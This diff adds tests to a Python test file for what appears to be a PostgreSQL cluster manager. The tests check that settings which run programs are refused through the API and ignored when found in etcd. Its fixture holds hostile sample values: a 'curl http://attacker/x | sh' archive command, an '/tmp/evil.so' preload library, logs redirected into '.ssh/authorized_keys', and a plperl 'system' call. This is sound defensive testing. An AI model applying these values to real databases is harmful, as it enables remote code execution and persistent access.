@@ -1,7 +1,10 @@
 """Dynamic configuration: validation and merging (pure), without a cluster."""
 from __future__ import annotations
 
+import json
+
 from governor import config, dynamic
+from governor.dcs import keys
 from tests.test_config import minimal, write
 
 
@@ -48,3 +51,40 @@ def test_patches_merge_and_null_removes():
     assert dynamic.diff(current, new) == [
         ("postgresql.parameters.auto_explain.log_min_duration", None, 50),
         ("postgresql.parameters.work_mem", "8MB", None)]
+
+
+RUNS_A_PROGRAM = {
+    "archive_command": "curl -s http://attacker/x | sh", "restore_command": "sh -c id", "archive_library": "x",
+    "archive_cleanup_command": "id", "recovery_end_command": "id", "ssl_passphrase_command": "id",
+    "shared_preload_libraries": "/tmp/evil.so", "session_preload_libraries": "evil",
+    "local_preload_libraries": "evil", "dynamic_library_path": "/tmp", "jit_provider": "evil",
+    "log_directory": "/var/lib/postgresql/.ssh", "log_filename": "authorized_keys", "external_pid_file": "/tmp/x",
+    "plperl.on_init": "system('id')", "pltcl.start_proc": "evil",
+}
+
+
+def test_settings_that_run_a_program_are_never_dynamic():
+    """PATCH /config and edit-config validate with this: each one refused, named, and where to set it."""
+    for name, value in RUNS_A_PROGRAM.items():
+        problems = dynamic.validate({"postgresql": {"parameters": {name: value}}})
+        assert len(problems) == 1 and problems[0].startswith(f"config: postgresql.parameters.{name}: "), problems
+        assert "only each member's files may set it" in problems[0]
+    upper = dynamic.validate({"postgresql": {"parameters": {"Archive_Command": "id"}}})
+    assert upper and "only each member's files" in upper[0]
+    remote = dynamic.validate({"standby_cluster": {"host": "site-a", "restore_command": "cp /a/%f %p"}})
+    assert remote == ["config: standby_cluster.restore_command: runs a program: only each member's files may set "
+                      "it (standby_cluster.restore_command), never etcd or the API"]
+    assert dynamic.validate({"postgresql": {"parameters": {"archive_command": None}}}) == [], "removing one is fine"
+
+
+def test_found_in_etcd_they_are_left_out_and_the_rest_applies():
+    raw = {"loop_wait": 3, "postgresql": {"parameters": {**RUNS_A_PROGRAM, "work_mem": "8MB"}},
+           "standby_cluster": {"host": "site-a", "restore_command": "id"}}
+    entry = keys.Entry("config", json.dumps(raw), 7)
+    cluster = keys.build_cluster([entry], 7)
+    assert cluster.config == {"loop_wait": 3, "postgresql": {"parameters": {"work_mem": "8MB"}},
+                              "standby_cluster": {"host": "site-a"}}
+    assert len(cluster.ignored_settings) == len(RUNS_A_PROGRAM) + 1
+    assert "standby_cluster.restore_command" in cluster.ignored_settings
+    assert any("postgresql.parameters.archive_command" in p and "ignored" in p for p in cluster.problems)
+    assert dynamic.validate(cluster.config) == []
